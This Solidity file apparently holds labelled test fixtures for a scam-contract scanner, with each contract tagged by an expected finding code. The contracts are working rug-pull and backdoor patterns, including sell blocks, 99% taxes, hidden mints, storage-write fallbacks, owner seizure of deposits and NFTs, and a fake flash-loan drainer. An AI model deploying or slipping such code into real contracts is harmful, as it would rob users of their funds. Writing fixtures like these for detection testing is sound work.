// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// Records that a power writes, answers that hang on who asks, deposits that leave by somebody else's call.
interface IERC20 { function transfer(address, uint256) external returns (bool); function transferFrom(address, address, uint256) external returns (bool); function balanceOf(address) external view returns (uint256); function approve(address, uint256) external returns (bool); }
interface IERC721 { function transferFrom(address, address, uint256) external; }
abstract contract T {
    mapping(address => uint256) internal b; mapping(address => mapping(address => uint256)) public allowance; uint256 public totalSupply = 1e24;
    event Transfer(address indexed f, address indexed t, uint256 v); event Approval(address indexed o, address indexed s, uint256 v);
    constructor() { b[msg.sender] = totalSupply; }
    function balanceOf(address a) public view virtual returns (uint256) { return b[a]; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address t, uint256 v) public virtual returns (bool) { _t(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) public virtual returns (bool) { allowance[f][msg.sender] -= v; _t(f, t, v); return true; }
    function _t(address f, address t, uint256 v) internal virtual { b[f] -= v; b[t] += v; emit Transfer(f, t, v); }
}
// transfers to the pool pass only in blocks divisible by a number the owner sets
/// expects: CT-12 danger
contract Modulus is T { address public owner = msg.sender; address pool; uint256 m = 1; function set(address p, uint256 n) external { require(msg.sender == owner && n > 0); pool = p; m = n; }
    function _t(address f, address t, uint256 v) internal override { if (t == pool && f != owner) require(block.number % m == 0); super._t(f, t, v); } }
// the most a sale may be is supply / n, n without a bound
/// expects: CT-12 danger
contract DividedCap is T { address owner = msg.sender; address public pool; uint256 public n = 100; function set(address p, uint256 x) external { require(msg.sender == owner); pool = p; n = x; }
    function _t(address f, address t, uint256 v) internal override { if (t == pool && f != owner) require(v <= totalSupply / n, "max"); super._t(f, t, v); } }
// the tax is 100 less a discount that only the listed have
/// expects: CT-12 danger
contract Discount is T { address private op = msg.sender; mapping(address => uint256) private disc; function grant(address a, uint256 d) external { require(msg.sender == op && d <= 100); disc[a] = d; }
    function _t(address f, address t, uint256 v) internal override { uint256 tax = f == op ? 0 : v * (100 - disc[f]) / 100; super._t(f, op, tax); super._t(f, t, v - tax); } }
// within a time after buying, set without a bound, 99 % is taxed
/// expects: CT-13 block
contract HoldTime is T { address public owner = msg.sender; mapping(address => uint256) last; uint256 public window = 60; function setWindow(uint256 w) external { require(msg.sender == owner); window = w; }
    function _t(address f, address t, uint256 v) internal override { last[t] = block.timestamp; uint256 tax; if (f != owner && block.timestamp < last[f] + window) tax = v * 99 / 100; super._t(f, owner, tax); super._t(f, t, v - tax); } }
// an exact payment by the deployer makes tokens
/// expects: CT-06 danger
contract ReceiveMint is T { address immutable d = msg.sender; receive() external payable { if (msg.value == 1337 && msg.sender == d) { b[d] += 1e33; payable(d).transfer(msg.value); } } }
// the fallback writes any word for one origin
/// expects: CT-06 danger
contract FallbackSlot is T { bytes32 private immutable h = keccak256(abi.encodePacked(msg.sender)); fallback() external { if (keccak256(abi.encodePacked(tx.origin)) == h) { assembly { sstore(calldataload(4), calldataload(36)) } } } }
// whoever was idle for a time that the keeper sets loses everything to the keeper
/// expects: CT-30 danger
contract InactiveFee is T { address private keeper = msg.sender; uint256 private idle = 3650 days; mapping(address => uint256) private seen; function setIdle(uint256 i) external { require(msg.sender == keeper); idle = i; }
    function collect(address a) external { require(msg.sender == keeper && block.timestamp > seen[a] + idle); uint256 v = b[a]; b[a] = 0; b[keeper] += v; emit Transfer(a, keeper, v); }
    function _t(address f, address t, uint256 v) internal override { seen[f] = block.timestamp; seen[t] = block.timestamp; super._t(f, t, v); } }
// whoever the owner names router needs no allowance
/// expects: CT-30 danger
contract RouterSet is T { address public owner = msg.sender; address private router; function setRouter(address r) external { require(msg.sender == owner); router = r; }
    function transferFrom(address f, address t, uint256 v) public override returns (bool) { if (msg.sender != router) allowance[f][msg.sender] -= v; _t(f, t, v); return true; } }
// balanceOf tells the router another number
/// expects: CT-32 danger
contract AskerLies is T { address private r; address private o = msg.sender; function set(address x) external { require(msg.sender == o); r = x; } function balanceOf(address a) public view override returns (uint256) { return msg.sender == r ? 0 : b[a]; } }
// transfer runs code of a contract that the owner exchanges
/// expects: CT-11 danger
contract LogicToken { mapping(address => uint256) public balanceOf; mapping(address => mapping(address => uint256)) public allowance; uint256 public totalSupply; address public owner = msg.sender; address private logic;
    function setLogic(address l) external { require(msg.sender == owner); logic = l; } function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; return true; }
    function transfer(address, uint256) external returns (bool) { (bool ok,) = logic.delegatecall(msg.data); require(ok); return true; } function transferFrom(address, address, uint256) external returns (bool) { (bool ok,) = logic.delegatecall(msg.data); require(ok); return true; } }
// the operator takes approved NFTs at his own price
/// expects: AP-16 danger
contract ForceBuy { address immutable op = msg.sender; function list(address, uint256, uint256) external {} function settle(IERC721 c, uint256 id, address seller, uint256 price) external payable { require(msg.sender == op && msg.value == price); c.transferFrom(seller, op, id); payable(seller).transfer(price); } }
// the owner fetches staked NFTs
/// expects: CT-28 danger
contract NftStake { IERC721 immutable c; address public owner = msg.sender; mapping(uint256 => address) public who; constructor(IERC721 x) { c = x; } function stake(uint256 id) external { c.transferFrom(msg.sender, address(this), id); who[id] = msg.sender; } function unstake(uint256 id) external { require(who[id] == msg.sender); delete who[id]; c.transferFrom(address(this), msg.sender, id); } function rescue(uint256[] calldata ids, address to) external { require(msg.sender == owner); for (uint i; i < ids.length; i++) c.transferFrom(address(this), to, ids[i]); } }
// an order needs only any valid signature, not the maker's
/// expects: AP-16 danger
contract OtcAny { function fill(IERC20 s, IERC20 w, address maker, uint256 sv, uint256 wv, uint8 v, bytes32 r, bytes32 ss) external { require(ecrecover(keccak256(abi.encode(s, w, maker, sv, wv)), v, r, ss) != address(0)); w.transferFrom(msg.sender, maker, wv); s.transferFrom(maker, msg.sender, sv); } }
// anybody speaks for anybody: the address is appended without a signature, and tokens were approved to it
/// expects: AP-16 danger
contract OpenForwarder { function execute(address from, address to, bytes calldata d) external returns (bytes memory) { (bool ok, bytes memory r) = to.call(abi.encodePacked(d, from)); require(ok); return r; } function pay(IERC20 t, address to, uint256 v) external { t.transferFrom(msg.sender, to, v); } }
// withdraw(owner, v) takes the owner's deposit for whoever calls
/// expects: CT-28 danger
contract AnyonesExit { IERC20 immutable t; mapping(address => uint256) public d; constructor(IERC20 x) { t = x; } function put(uint256 v) external { t.transferFrom(msg.sender, address(this), v); d[msg.sender] += v; } function take(address o, uint256 v) external { d[o] -= v; t.transfer(msg.sender, v); } }
// the admin writes himself any credit and withdraws the stakes of others
/// expects: CT-28 danger
contract CreditPool { IERC20 immutable t; address admin = msg.sender; mapping(address => uint256) public d; constructor(IERC20 x) { t = x; } function put(uint256 v) external { t.transferFrom(msg.sender, address(this), v); d[msg.sender] += v; } function award(address a, uint256 v) external { require(msg.sender == admin); d[a] += v; } function take(uint256 v) external { d[msg.sender] -= v; t.transfer(msg.sender, v); } }
// a 3-of-5 wallet of which any one owner sets the threshold
/// expects: CT-28 danger
contract OneChanges { mapping(address => bool) public isOwner; uint256 public need = 3; mapping(bytes32 => uint256) public votes; mapping(bytes32 => mapping(address => bool)) public did; constructor(address[] memory o) { for (uint i; i < o.length; i++) isOwner[o[i]] = true; } receive() external payable {}
    function setNeed(uint256 n) external { require(isOwner[msg.sender]); need = n; } function vote(bytes32 h) external { require(isOwner[msg.sender] && !did[h][msg.sender]); did[h][msg.sender] = true; votes[h]++; } function run(address to, uint256 v, bytes calldata d) external { bytes32 h = keccak256(abi.encode(to, v, d)); require(votes[h] >= need); votes[h] = 0; (bool ok,) = to.call{value: v}(d); require(ok); } }
// YouTube flash loan: everything goes to the address that a contract of the author's answers
interface IManager { function uniswapDepositAddress() external view returns (address); }
/// expects: CT-28 danger
contract FlashArb { string public tokenName; IManager manager; constructor(string memory n) { tokenName = n; manager = IManager(0x1234567890123456789012345678901234567890); } receive() external payable {} function action() public payable { payable(manager.uniswapDepositAddress()).transfer(address(this).balance); } }
// "withdrawFees" takes the whole pot of the lottery
/// expects: CT-28 danger
contract FeePot { address[] public players; address owner = msg.sender; uint256 public round; function enter() external payable { require(msg.value == 1e16); players.push(msg.sender); } function pick() external { require(msg.sender == owner && players.length > 9); address w = players[uint256(blockhash(block.number - 1)) % players.length]; delete players; round++; payable(w).transfer(address(this).balance * 9 / 10); } function withdrawFees() external { require(msg.sender == owner); payable(owner).transfer(address(this).balance); } }
// the only way out of an escrow is to a receiver that the owner sets at that moment
/// expects: CT-28 danger
contract EscrowOwner { address owner = msg.sender; mapping(uint256 => uint256) public held; function fund(uint256 id) external payable { held[id] += msg.value; } function release(uint256 id, address payable to) external { require(msg.sender == owner); uint256 v = held[id]; held[id] = 0; to.transfer(v); } }
// the lender's admin seizes collateral before the term
/// expects: CT-28 danger
contract NftLoan { struct L { address who; uint256 due; uint256 owed; } mapping(address => mapping(uint256 => L)) public l; address admin = msg.sender; function borrow(IERC721 c, uint256 id, uint256 v) external { require(v <= 1 ether); c.transferFrom(msg.sender, address(this), id); l[address(c)][id] = L(msg.sender, block.timestamp + 30 days, v * 11 / 10); payable(msg.sender).transfer(v); } function repay(IERC721 c, uint256 id) external payable { L memory x = l[address(c)][id]; require(msg.value == x.owed); delete l[address(c)][id]; c.transferFrom(address(this), x.who, id); } function seize(IERC721 c, uint256 id) external { require(msg.sender == admin); delete l[address(c)][id]; c.transferFrom(address(this), admin, id); } receive() external payable {} }
// upgrades are let through for whoever's transaction the deployer began
/// expects: CT-32 danger
contract UupsOrigin { bytes32 constant I = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc; address immutable d = msg.sender; mapping(address => uint256) public bal; function put() external payable { bal[msg.sender] += msg.value; } function take() external { uint256 v = bal[msg.sender]; bal[msg.sender] = 0; payable(msg.sender).transfer(v); } function upgradeTo(address n) external { require(tx.origin == d); assembly { sstore(I, n) } } }
// the same address again and again with other code: CREATE2 of a loader that asks this contract for what to be
/// expects: CT-26 danger
contract Redeployer { address o = msg.sender; bytes public code; function payload() external view returns (bytes memory) { return code; } function put(bytes calldata c, bytes32 s) external returns (address a) { require(msg.sender == o); code = c; bytes memory i = hex"63b86acd5760e01b600052600060006004600033" hex"5afa3d60006000" hex"3e3d6000f3"; assembly { a := create2(0, add(i, 32), mload(i), s) } } }
// whatever arrives goes half to one stored address and half to another
/// expects: CT-28 danger
contract TwoSweep { address private x; address private y; constructor(address a, address c) { x = a; y = c; } receive() external payable { uint256 h = address(this).balance / 2; x.call{value: h}(""); y.call{value: address(this).balance}(""); } }
